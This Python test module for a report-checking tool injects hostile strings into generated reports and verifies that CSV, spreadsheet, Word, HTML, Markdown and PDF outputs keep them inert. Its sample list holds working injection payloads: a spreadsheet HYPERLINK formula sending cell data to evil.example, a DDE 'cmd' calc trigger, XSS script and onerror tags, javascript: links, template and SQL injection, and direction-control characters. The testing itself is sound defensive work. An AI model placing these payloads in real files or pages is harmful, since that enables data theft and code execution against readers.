"""Hostile reports through the ordinary readers: nothing runs, nothing calls out, every output opens in what reads it."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import zipfile
from collections.abc import Callable
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from lxml import etree, html
from tests.outputs.reports import FAULTY, Part, as_docx, as_html, as_pdf, as_text, as_xlsx, parts_of
from tests.outputs.runs import run_of, write_all
from tests.outputs.test_consistency import check
from tests.outputs.web.drawing import CHROMIUM

from juesuan_rules.findings import Finding
from juesuan_rules.material import Material
from juesuan_rules.outputs.guarding import xml_text

TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点")', "+1", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "＝1＋1", "<script>alert(1)</script>", "</style><style>body{display:none}</style>",
    '"><img src=http://evil.example/x onerror=alert(1)>', "javascript:alert(1)", "[点](javascript:alert(1))", "![图](http://evil.example/a.png)", "\x07\x1b[31m\x08红", "\u202e反\u2066向",
    "]]>", "<!--", "{{7*7}}", "{% raw %}", "%s%n", "{0}", "&lt;b&gt;&amp;", "||x||", "`a`", "\\", "' OR 1=1", "\ud83d\ude00"[:1], "\ufffe", "e" + "\u0301" * 40, "http://evil.example/", "#REF!", "(x) Tj ET",
)  # fmt: skip
NAME = "=1+1{{7}}%s"
"""What the unit's name begins with; it is in the file's name, too."""
LIVE = re.compile(r"HYPERLINK|SUM\(1|cmd\||evil|7\*7")
LONG = 100_000


def hostile_parts() -> list[Part]:
    """The faulty sample with a text after every label of its tables, in its sentences and its name, a cell of 100,000
    characters, and a table of nothing but such texts."""
    found: list[Part] = []
    count = 0
    for part in parts_of(FAULTY):
        if isinstance(part, str):
            part = part.replace("辽宁省云岫市数据服务局", f"{NAME}辽宁省云岫市数据服务局")
            if "万元" in part and "，" in part:
                part = part.replace("，", f"（{TEXTS[count % len(TEXTS)]}），", 1)
                count += 1
            found.append(part)
            continue
        for row in part[4:]:
            for at, text in enumerate(row):
                if len(text) > 3 and any("一" <= letter <= "鿿" for letter in text):
                    row[at] = f"{TEXTS[count % len(TEXTS)]}{text}" if count % 3 == 0 else f"{text}{TEXTS[count % len(TEXTS)]}" if count % 3 == 1 else text
                    count += 1
                    break
        found.append(part)
    others = [["项目", "说明"], *[[text, f"{text} 1.00"] for text in TEXTS], ["长", "长" * LONG]]
    return [*found, "附：其他情况表", others, "以上。"]


FORMATS: dict[str, Callable[[list[Part], Path], Path]] = {
    "txt": as_text, "docx": as_docx, "html": as_html, "pdf": as_pdf,
    "xlsx": lambda parts, target: as_xlsx(parts, target, lambda at: ("=1+1", "<b>&'x'", "@SUM(1)", "+1", "{{7}}%s", "\u202e反")[at % 6] + f"{at}"),
}  # fmt: skip


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made: Path = tmp_path_factory.mktemp("hostile")
    return made


@pytest.fixture(scope="module")
def outputs(folder: Path) -> dict[str, tuple[Material, dict[str, Path]]]:
    """Every output of the hostile report in every format."""
    parts, found = hostile_parts(), {}
    for kind, write in FORMATS.items():
        report = write(parts, folder / f"=1+1 {{{{7}}}} %s 'x' &amp;.{kind}")
        made = run_of([report])
        write_all(made, folder / kind)
        found[kind] = made, {path.suffix[1:]: path for path in (folder / kind).iterdir()}
    return found


EVERY_FORMAT = pytest.mark.parametrize("kind", list(FORMATS))


@EVERY_FORMAT
def test_the_report_is_judged_and_its_texts_arrive(outputs: dict[str, tuple[Material, dict[str, Path]]], kind: str) -> None:
    made, files = outputs[kind]
    assert set(files) >= {"json", "html", "xlsx", "docx", "sarif", "junit", "csv", "md"} and ("pdf" in files) == (kind == "pdf")
    (report,) = made.run.reports
    assert report.status == "judged" and NAME in (report.identity.unit_name or ""), report.identity
    assert report.summary["rule_error"] == 0
    told = html.document_fromstring(files["html"].read_bytes(), parser=html.HTMLParser(encoding="utf-8")).text_content()
    assert sum(text in told for text in TEXTS) > len(TEXTS) // 2


@EVERY_FORMAT
def test_all_outputs_still_tell_the_same(outputs: dict[str, tuple[Material, dict[str, Path]]], kind: str) -> None:
    found = {name: path.read_bytes() for name, path in outputs[kind][1].items()}
    check(found, _core)


def _core(sentence: str) -> str:
    """The beginning of a sentence, its Chinese characters and figures: all else each output writes in a way of its own."""
    return "".join(re.findall("[一-鿿0-9]", xml_text(sentence)))[:150]


@EVERY_FORMAT
def test_texts_stay_texts(outputs: dict[str, tuple[Material, dict[str, Path]]], kind: str) -> None:
    """What every kind of file may hold: no formula of the document, no control or direction character, no live address."""
    files = outputs[kind][1]
    for name, path in files.items():
        if name in ("xlsx", "docx"):
            _check_package(path)
        elif name not in ("pdf", "json"):
            text = path.read_text("utf-8")
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069\ufffe]", text), name
    etree.parse(str(files["junit"]), etree.XMLParser(resolve_entities=False))
    json.loads(files["sarif"].read_text("utf-8"))
    for row in csv.reader(StringIO(files["csv"].read_text("utf-8-sig"), newline="")):
        assert not [cell for cell in row if re.match(r"[\s\"]*[=+\-@＝＋－＠\t]", cell) and not re.fullmatch(r"-?[\d.]+", cell)]
    _check_markdown(files["md"].read_text("utf-8"))


def _check_package(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            data = archive.read(name)
            if name.endswith((".xml", ".rels", ".vml")):
                etree.fromstring(data, etree.XMLParser(resolve_entities=False, huge_tree=True))
            assert b'TargetMode="External"' not in data, name
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                for formula in re.findall(rb"<f[^>]*>([^<]*)</f>", data):
                    outside = re.sub(rb"'[^']*'|&apos;[^&]*&apos;|&quot;[^&]*&quot;", b"", formula)
                    assert not LIVE.search(outside.decode()), formula


def _check_markdown(text: str) -> None:
    from markdown_it import MarkdownIt

    root = html.fragment_fromstring(MarkdownIt("gfm-like").render(text), create_parent="div")
    live = root.xpath("//a | //img | //script | //style | //@onerror")
    assert live == []


@pytest.fixture(scope="module")
def in_browser(outputs: dict[str, tuple[Material, dict[str, Path]]], needs: Callable[[str], str]) -> dict[str, tuple[list[str], dict[str, Any]]]:
    """What happened on each page in a real browser, and what could be seen."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="没有安装 playwright，跳过在浏览器里的测试")
    seen: dict[str, tuple[list[str], dict[str, Any]]] = {}
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=needs("chromium"), args=list(CHROMIUM))
        for kind, (_, files) in outputs.items():
            trouble: list[str] = []
            page = browser.new_page(viewport={"width": 1000, "height": 800})
            page.on("console", lambda message, trouble=trouble: trouble.append(message.text))
            page.on("pageerror", lambda error, trouble=trouble: trouble.append(str(error)))
            page.on("dialog", lambda dialog, trouble=trouble: (trouble.append("dialog"), dialog.dismiss()))
            page.on("request", lambda request, trouble=trouble: trouble.append(request.url) if not request.url.startswith(("file:", "data:")) else None)
            page.goto(files["html"].as_uri())
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            page.fill("#find", "<script>")
            page.wait_for_timeout(150)
            about = {"width": page.evaluate("document.documentElement.scrollWidth"), "title": page.title(), "heading": page.inner_text("h1"), "links": page.evaluate("Array.from(document.links).map(a => a.getAttribute('href')).filter(h => !h.startsWith('#'))")}
            seen[kind] = trouble, about
            page.close()
        browser.close()
    return seen


@EVERY_FORMAT
def test_nothing_runs_in_a_browser(in_browser: dict[str, tuple[list[str], dict[str, Any]]], kind: str) -> None:
    trouble, about = in_browser[kind]
    assert trouble == [] and about["links"] == []
    assert about["width"] <= 1000 and NAME in about["title"] and NAME in about["heading"]


def test_libreoffice_runs_no_formula_of_the_document(outputs: dict[str, tuple[Material, dict[str, Path]]], needs: Callable[[str], str], folder: Path) -> None:
    """All workbooks and the CSV recalculated; texts come back as texts, conclusions as they were."""
    import openpyxl
    from tests.outputs.workbook.test_recalculation import ALWAYS_RECALCULATE

    home, out = folder / "soffice", folder / "recalculated"
    (home / "user").mkdir(parents=True)
    (home / "user" / "registrymodifications.xcu").write_text(ALWAYS_RECALCULATE, "utf-8")
    copies = []
    for kind in ("txt", "pdf"):
        for name in ("xlsx", "csv"):
            copy = folder / f"{kind}-{name}.{name}"
            copy.write_bytes(outputs[kind][1][name].read_bytes())
            copies.append(copy)
    command = [needs("soffice"), f"-env:UserInstallation={home.as_uri()}", "--headless", "--norestore", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), *map(str, copies)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    for copy in copies:
        book = openpyxl.load_workbook(out / f"{copy.stem}.xlsx")
        for sheet in book:
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                assert cell.hyperlink is None or not cell.hyperlink.target, cell.coordinate
                if cell.data_type == "f":
                    assert copy.suffix == ".xlsx" and not LIVE.search(re.sub("'[^']*'", "", str(cell.value))), cell.value
    paper = openpyxl.load_workbook(out / "txt-xlsx.xlsx", data_only=True)["底稿"]
    texts = [str(cell.value) for row in paper.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(text.startswith(("+1", "=HYPERLINK", "@SUM")) or "=HYPERLINK(" in text for text in texts)


def test_the_marked_file_is_sound(outputs: dict[str, tuple[Material, dict[str, Path]]]) -> None:
    import pikepdf

    data = outputs["pdf"][1]["pdf"].read_bytes()
    with pikepdf.open(BytesIO(data)) as document:
        assert not document.check_pdf_syntax() if hasattr(document, "check_pdf_syntax") else document.check() == []
        annotations = [one for page in document.pages for one in page.get("/Annots", [])]
        assert len(annotations) > 20
        for one in annotations:
            assert "/A" not in one and "/AA" not in one and one["/Subtype"] in ("/Square", "/Stamp")
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069]", str(one["/Contents"]))


def test_every_text_of_a_finding_is_the_documents_own(outputs: dict[str, tuple[Material, dict[str, Path]]]) -> None:
    """The reports do carry the texts into their findings: else all of the above would prove nothing."""
    found: list[Finding] = [one.finding for one in outputs["txt"][0].subject(0).numbered]
    told = " ".join(f"{one.key} {one.sentence} {[o.name + o.raw + o.quote for o in one.operands or ()]}" for one in found)
    assert sum(text in told for text in TEXTS) >= 8, [text for text in TEXTS if text in told]
